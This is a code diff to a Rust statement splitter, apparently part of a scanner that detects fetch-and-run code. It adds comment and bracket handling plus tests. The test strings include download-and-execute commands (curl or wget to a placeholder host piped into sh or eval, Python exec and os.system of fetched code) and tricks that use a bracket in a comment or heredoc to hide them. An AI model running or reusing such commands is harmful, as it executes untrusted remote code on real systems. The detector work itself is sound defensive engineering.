@@ -515,7 +515,7 @@ fn used(part: &str) -> impl Iterator<Item = (usize, &str)> {
 }
 
 /// Splits the span `of` of `text` into statements: at `;`, `&&` and `||`, and at line ends, except within brackets and
-/// after a `\`.
+/// after a `\`. If a bracket may be part of a text, such as `# :(`, the lines after it follow as statements of their own.
 pub(crate) fn statements(text: &str, of: Span) -> Vec<Span> {
     let mut found = Vec::new();
     each_statement(text, of, |statement| {
@@ -538,7 +538,7 @@ pub(crate) fn statement_at(text: &str, of: Span, at: usize) -> Option<Span> {
 /// For each byte value, whether such a byte can end a statement, or affects where a statement ends.
 const SIGNS: [bool; 256] = {
     let mut signs = [false; 256];
-    let all = b"\n\\\"'([{)]};&|";
+    let all = b"\n\\\"'([{)]};&|#";
     let mut at = 0;
     while at < all.len() {
         signs[all[at] as usize] = true;
@@ -553,6 +553,11 @@ fn each_statement(text: &str, of: Span, mut take: impl FnMut(Span) -> bool) {
     let (mut start, mut depth, mut quote) = (of.start, 0_usize, 0_u8);
     let mut at = of.start;
     let mut last = b'\n';
+    let mut is_comment = false;
+    // Whether a line within brackets begins without indentation, as few lines of a call or a list do.
+    let mut is_odd = false;
+    // Up to this offset, each line is read as a statement of its own, regardless of brackets.
+    let mut flat = of.start;
     while at <= bytes.len() {
         // Fast path: most bytes are ordinary parts of the statement.
         let most = bytes.len().min(start + MAX_STATEMENT);
@@ -563,17 +568,30 @@ fn each_statement(text: &str, of: Span, mut take: impl FnMut(Span) -> bool) {
             at += 1;
         }
         let byte = bytes.get(at).copied().unwrap_or(b'\n');
+        let next = bytes.get(at + 1).copied();
         let is_end = at == bytes.len();
         let is_too_long = at - start >= MAX_STATEMENT && text.is_char_boundary(at);
         let mut width = 1;
         let ends = match byte {
             b'\n' => {
-                quote = 0;
-                last != b'\\' && depth == 0 || is_end
+                let is_joined = last == b'\\' && !is_comment;
+                (quote, is_comment) = (0, false);
+                if at <= flat {
+                    depth = 0;
+                }
+                is_odd |= depth > 0 && next.is_some_and(|next| !b" \t\r\n)]}".contains(&next));
+                !is_joined && depth == 0 || is_end
             }
+            b';' if quote == 0 => depth == 0,
+            b'&' | b'|' if quote == 0 && depth == 0 && next == Some(byte) => {
+                width = 2;
+                true
+            }
+            // Brackets and quotes in a comment are text.
+            _ if is_comment => false,
             b'\\' => {
                 // Skip the escaped character, except for a line end.
-                if bytes.get(at + 1).is_some_and(|next| *next != b'\n') {
+                if next.is_some_and(|next| !matches!(next, b'\r' | b'\n')) {
                     width = 2;
                 }
                 false
@@ -588,6 +606,11 @@ fn each_statement(text: &str, of: Span, mut take: impl FnMut(Span) -> bool) {
                 }
                 false
             }
+            b'#' => {
+                let before = at.checked_sub(1).map_or(b'\n', |before| bytes[before]);
+                is_comment = before.is_ascii_whitespace() || before == b';';
+                false
+            }
             b'(' | b'[' => {
                 depth += 1;
                 false
@@ -600,25 +623,31 @@ fn each_statement(text: &str, of: Span, mut take: impl FnMut(Span) -> bool) {
                 depth = depth.saturating_sub(1);
                 false
             }
-            b';' => depth == 0,
-            b'&' | b'|' if depth == 0 && bytes.get(at + 1) == Some(&byte) => {
-                width = 2;
-                true
-            }
             _ => false,
         };
         if ends || is_too_long {
-            if is_too_long {
-                depth = 0;
-            }
             let end = at.min(bytes.len());
             let is_whole = text.is_char_boundary(start) && text.is_char_boundary(end);
             if end > start && is_whole && !take(Span::new(start, end)) {
                 return;
             }
-            start = at + width;
+            // A bracket in a text hides the statements after it: read the lines again, with `flat` at
+            // a later offset each time.
+            let is_doubtful = is_odd || is_too_long || depth > 0;
+            is_odd = false;
+            depth = 0;
+            if is_doubtful && end > flat && memchr::memchr(b'\n', &bytes[start..end]).is_some() {
+                flat = end;
+                at = start;
+                (quote, is_comment, last) = (0, false, b'\n');
+                continue;
+            }
+            start = if ends { at + width } else { at };
         }
-        if !byte.is_ascii_whitespace() || byte == b'\n' {
+        if width == 2 {
+            // An escaped character, or an operator, joins no lines.
+            last = b'x';
+        } else if !byte.is_ascii_whitespace() || byte == b'\n' {
             last = byte;
         }
         at += width;
@@ -674,6 +703,11 @@ mod tests {
             ["f(\n  1,\n  2)", "g \\\n h"]
         );
         assert_eq!(of("echo 'a; b' \"(\"\nc"), ["echo 'a; b' \"(\"", "c"]);
+        assert_eq!(of("a # (\nb; c"), ["a # (", "b", "c"]);
+        assert_eq!(of("a \\\\\nb"), ["a \\\\", "b"]);
+        // The lines after a bracket that may be part of a text are also statements of their own.
+        assert_eq!(of("a (\nb\nc"), ["a (\nb\nc", "a (", "b", "c"]);
+        assert_eq!(of("a (\nb\n)\nc"), ["a (\nb\n)", "a (", "b", ")", "c"]);
     }
 
     #[test]
@@ -683,6 +717,7 @@ mod tests {
             "a; b && c\nd",
             "f(\n  1,\n  2)\ng \\\n h",
             "echo 'a; b' \"(\"\nc",
+            "a (\nb\n)\nc (\nd",
             &long,
         ] {
             let all = Span::new(0, text.len());
@@ -713,6 +748,13 @@ mod tests {
             "src = urllib.request.urlopen('https://a.invalid/a').read()\nexec(compile(src, 'a', 'exec'))",
             "r = requests.get('https://a.invalid')\nopen('/tmp/u.sh','w').write(r.text)\nsubprocess.run(['bash', '/tmp/u.sh'])",
             "wget -qO /tmp/.h https://a.invalid/h && chmod +x /tmp/.h && /tmp/.h &",
+            "# Dates :(\ncurl https://a.invalid/i -o i\nsh i",
+            "# Dates :(\n curl https://a.invalid/i -o i\n sh i\n# :)",
+            "curl https://a.invalid/i -o i # :(\nsh i",
+            "cat <<'E'\n(\nE\ncurl https://a.invalid/i -o i\nsh i",
+            "x=a[\ncurl https://a.invalid/i -o i\nsh i\nx=]",
+            ": \\x\nx=$(curl https://a.invalid/i)\neval \"$x\"",
+            "\"\"\"Dates\n(\n\"\"\"\nr = requests.get('https://a.invalid/a').text\nos.system(r)",
         ] {
             let found = found(text);
             let is_run = |(sink, labels): &(Sink, Labels)| {
